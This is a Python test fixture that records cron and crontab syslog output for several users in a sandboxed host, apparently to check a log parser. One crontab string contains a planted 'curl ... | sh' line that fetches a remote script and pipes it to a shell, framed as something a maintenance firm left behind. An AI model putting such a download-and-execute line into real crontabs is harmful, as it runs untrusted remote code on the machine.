"""cron at its ordinary log level and at the one that tells the most, crontab, and jobs of several users."""

import time

from .syslog import Rsyslog
from .world import Host, write_expected

JOBS = "# what a maintenance firm leaves behind\n* * * * * echo working >/dev/null\n* * * * * curl -s http://203.0.113.9/x.sh | sh # 100\\% <- not the end\n"
ROOTS = "* * * * * false\n* * * * * echo said something\n@reboot echo started\n"
SYSTEM = "SHELL=/bin/sh\n* * * * * www-data /usr/bin/test -x /nothing || true\n"
BAD = "99 * * * * root echo never\n"


def record(trees, out, outside):
    for name, level in (("cron", "1"), ("cron-all", "15")):
        with Host(trees, "bookworm") as host:
            host.add_user("anna")
            host.write("/etc/crontab", "")
            for old in host.path("/etc/cron.d").iterdir():
                old.unlink()
            truth = [{"kind": "recording", "cron": host.version("cron"), "log_level": level}]

            def note(**what):
                truth.append(what)
            with Rsyslog(host, out / "cron", name):
                host.run("crontab", "-u", "anna", "-", input=JOBS.encode())
                note(program="crontab", action="replace", user="root", of="anna")
                host.run("setpriv", "--reuid", "anna", "--regid", "anna", "--clear-groups", "crontab", "-l")
                note(program="crontab", action="list", user="anna", of="anna")
                host.run("crontab", "-", input=ROOTS.encode())
                note(program="crontab", action="replace", user="root", of="root")
                host.write("/etc/cron.d/shop", SYSTEM)
                host.write("/etc/cron.d/broken", BAD)
                # cron believes that it is five seconds before the minute; the log has the true time.
                cron = host.start("faketime", "-f", "@2030-01-01 11:59:55", "cron", "-f", "-L", level)
                time.sleep(12)
                note(program="cron", action="run", user="root", command="echo started")
                for user, text in (("anna", JOBS), ("root", ROOTS)):
                    for line in text.splitlines():
                        if line.startswith("* "):
                            note(program="cron", action="run", user=user, command=line[10:].replace("\\%", "%"))
                note(program="cron", action="run", user="www-data", command=SYSTEM.splitlines()[1][len("* * * * * www-data "):])
                host.run("crontab", "-u", "anna", "-r")
                note(program="crontab", action="delete", user="root", of="anna")
                host.stop(cron)
            write_expected(out / "cron" / f"{name}.expected.jsonl", truth)
